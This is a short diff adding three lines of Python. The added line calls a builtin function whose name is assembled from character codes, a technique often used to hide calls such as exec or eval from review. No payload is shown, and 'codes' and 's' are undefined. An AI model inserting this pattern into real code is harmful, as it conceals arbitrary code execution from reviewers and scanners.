@@ -1,0 +1,3 @@
+import builtins
+
+getattr(builtins, "".join(chr(c) for c in codes))(s)
